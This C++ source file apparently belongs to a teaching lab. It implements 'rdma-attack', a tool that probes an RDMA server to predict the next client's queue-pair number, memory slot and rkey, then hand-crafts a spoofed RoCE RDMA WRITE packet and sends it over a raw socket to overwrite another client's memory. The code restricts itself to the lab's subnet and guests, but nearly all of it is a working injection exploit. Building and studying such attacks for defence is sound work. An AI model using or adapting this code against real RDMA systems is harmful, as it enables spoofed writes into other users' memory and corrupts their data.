// rdma-attack: what an attacker on the lab's wire does to rdma-victim, one step a command.
//   rdma-attack probe --server ADDR [--port P]
//       connect to the victim as any client would, and print what that shows of the next
//       client's connection (key=value lines): the victim's QP number for us and the next one,
//       our slot's address and rkey and the next slot's, the victim's link address.
//   rdma-attack inject-write --interface IF --victim ADDR --victim-mac MAC --spoof ADDR
//                            --qpn N --psn N --address A --rkey K --text TEXT
//       one RC RDMA WRITE Only built by hand (security/roce_frame.hpp) and put on IF through a raw
//       socket, from the spoofed address, with a correct Invariant CRC.
// Only inside the lab's guests (RDMALAB_HOST set) and only to and from the lab's own subnet,
// 198.51.100.0/24: anything else is refused with one line, exit 2.
#include "roce_frame.hpp"
#include "victim_protocol.hpp"

#include "rdmalab/error.hpp"
#include "rdmalab/options.hpp"
#include "rdmalab/port_address.hpp"
#include "rdmalab/qp_bringup.hpp"
#include "rdmalab/qp_transitions.hpp"
#include "rdmalab/tcp_exchange.hpp"
#include "rdmalab/verbs.hpp"

#include <arpa/inet.h>
#include <fmt/core.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <sys/socket.h>
#include <unistd.h>
#include <CLI/CLI.hpp>

#include <cstdlib>
#include <fstream>
#include <sstream>

using namespace rdmalab;
using namespace rdmalab::security;

namespace {

[[noreturn]] void refuse(const std::string& why) {
    fmt::print(stderr, "rdma-attack: {}\n", why);
    std::exit(2);
}

std::uint32_t lab_or_refuse(const std::string& what, const std::string& text) {
    const auto address = lab_address(text);
    if (!address)
        refuse(fmt::format("{} '{}' is outside the lab's subnet 198.51.100.0/24: refused", what,
                           text));
    return *address;
}

// The kernel's neighbour entry for an address (the ARP table), after our own traffic to it.
std::string neighbour_mac(const std::string& address) {
    std::ifstream arp("/proc/net/arp");
    std::string line;
    std::getline(arp, line);  // the header
    while (std::getline(arp, line)) {
        std::istringstream fields(line);
        std::string ip, type, flags, mac;
        fields >> ip >> type >> flags >> mac;
        if (ip == address) return mac;
    }
    return "";
}

int probe(const QpOptions& options) {
    QpResources r = create_qp_resources(options, IBV_QPT_RC, 4, 4, "attacker");
    apply_transition(r.qp.get(), init_transition(r.local, 0), "attacker");
    TcpExchange tcp =
        TcpExchange::connect_to(options.server_address, options.port, options.timeout(),
                                options.timeout());  // the victim serves one client at a time
    const QpEndpoint ours = local_endpoint(r);
    const QpEndpoint victim = connect_qp(r.qp.get(), tcp, r.local, ours, PeerBuffer::kAdvertised,
                                         Reliability{}, "attacker");
    // What one connection shows: rxe numbers QPs in sequence and keeps one registration's rkey
    // for every slot of a pool, so the next client's QP and slot follow from ours.
    fmt::print("victim_qpn={:#x}\nnext_qpn={:#x}\n", victim.qpn, victim.qpn + 1);
    fmt::print("slot_address={:#x}\nnext_slot_address={:#x}\n", victim.address,
               victim.address + victim.length);
    fmt::print("slot_rkey={:#x}\nslot_bytes={}\n", victim.rkey, victim.length);
    fmt::print("victim_mac={}\n", neighbour_mac(options.server_address));
    // Behave: say we are done (the checksum of the untouched, zeroed slot), as a client does.
    const std::vector<std::uint8_t> zeros(victim.length, 0);
    return send_done(r.qp.get(), r.pd.get(), r.cq.get(), slot_checksum(zeros), options.timeout()) ==
                   IBV_WC_SUCCESS
               ? 0
               : 1;
}

struct Injection {
    std::string interface, victim, victim_mac, spoof, text;
    std::uint32_t qpn = 0, psn = 0, rkey = 0;
    std::uint64_t address = 0;
};

int inject_write(const Injection& in) {
    RdmaWritePacket packet;
    packet.destination_ip = lab_or_refuse("--victim", in.victim);
    packet.source_ip = lab_or_refuse("--spoof", in.spoof);
    const auto victim_mac = parse_mac(in.victim_mac);
    if (!victim_mac) refuse(fmt::format("--victim-mac '{}' is not a MAC address", in.victim_mac));
    packet.destination_mac = *victim_mac;
    std::ifstream own_mac("/sys/class/net/" + in.interface + "/address");
    std::string mac_text;
    if (in.interface.find('/') != std::string::npos || !std::getline(own_mac, mac_text))
        refuse(fmt::format("no network interface '{}'", in.interface));
    packet.source_mac = *parse_mac(mac_text);
    if (in.qpn > 0xffffff || in.psn > 0xffffff) refuse("--qpn and --psn are 24-bit numbers");
    if (in.text.empty() || in.text.size() > 1024)
        refuse("--text must hold 1 to 1024 bytes (one packet at the lab's MTU)");
    packet.destination_qpn = in.qpn;
    packet.psn = in.psn;
    packet.virtual_address = in.address;
    packet.rkey = in.rkey;
    packet.payload.assign(in.text.begin(), in.text.end());
    packet.ip_id = static_cast<std::uint16_t>(getpid());
    const std::vector<std::uint8_t> frame = build_frame(packet);

    const int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_IP));
    check_errno(fd >= 0, "socket(AF_PACKET) (needs CAP_NET_RAW: the lab's guests run as root)");
    sockaddr_ll to{};
    to.sll_family = AF_PACKET;
    to.sll_protocol = htons(ETH_P_IP);
    to.sll_ifindex = static_cast<int>(if_nametoindex(in.interface.c_str()));
    to.sll_halen = 6;
    std::copy(packet.destination_mac.begin(), packet.destination_mac.end(), to.sll_addr);
    const ssize_t sent =
        sendto(fd, frame.data(), frame.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
    const int error = errno;
    close(fd);
    errno = error;
    check_errno(sent == static_cast<ssize_t>(frame.size()), "sendto(AF_PACKET)");
    fmt::print(
        "attacker: sent one RDMA WRITE Only ({} bytes of payload, frame {} bytes) on {}: {} → {} "
        "QP {:#x} PSN {:#x}, address {:#x}, rkey {:#x}\n",
        in.text.size(), frame.size(), in.interface, in.spoof, in.victim, in.qpn, in.psn, in.address,
        in.rkey);
    return 0;
}

}  // namespace

int main(int argc, char** argv) {
    if (std::getenv("RDMALAB_HOST") == nullptr)
        refuse("runs only inside the lab's guests (RDMALAB_HOST is not set: ./rdmalab lab ...)");
    return run_program("rdma-attack", [&] {
        CLI::App app{"Attacks on rdma-victim, on the lab's wire only"};
        app.require_subcommand(1);
        QpOptions options;
        options.port = 18600;
        options.timeout_s = 20;
        auto* probe_command = app.add_subcommand("probe", "connect as a client; predict the next");
        probe_command->add_option("--server", options.server_address, "the victim's address")
            ->required();
        probe_command->add_option("-p,--port", options.port, "its TCP port")
            ->check(CLI::Range(1, 65535));
        Injection in;
        auto* inject = app.add_subcommand("inject-write", "one hand-made RDMA WRITE, spoofed");
        inject->add_option("--interface", in.interface, "the interface to send on")->required();
        inject->add_option("--victim", in.victim, "the victim's address")->required();
        inject->add_option("--victim-mac", in.victim_mac, "its link address")->required();
        inject->add_option("--spoof", in.spoof, "the source address to claim")->required();
        inject->add_option("--qpn", in.qpn, "the victim's QP number")->required();
        inject->add_option("--psn", in.psn, "the PSN the victim expects")->required();
        inject->add_option("--address", in.address, "the virtual address to write")->required();
        inject->add_option("--rkey", in.rkey, "the rkey")->required();
        inject->add_option("--text", in.text, "what to write")->required();
        try {
            app.parse(argc, argv);
        } catch (const CLI::ParseError& e) {
            std::exit(app.exit(e));
        }
        if (probe_command->parsed()) {
            lab_or_refuse("--server", options.server_address);
            return probe(options);
        }
        return inject_write(in);
    });
}
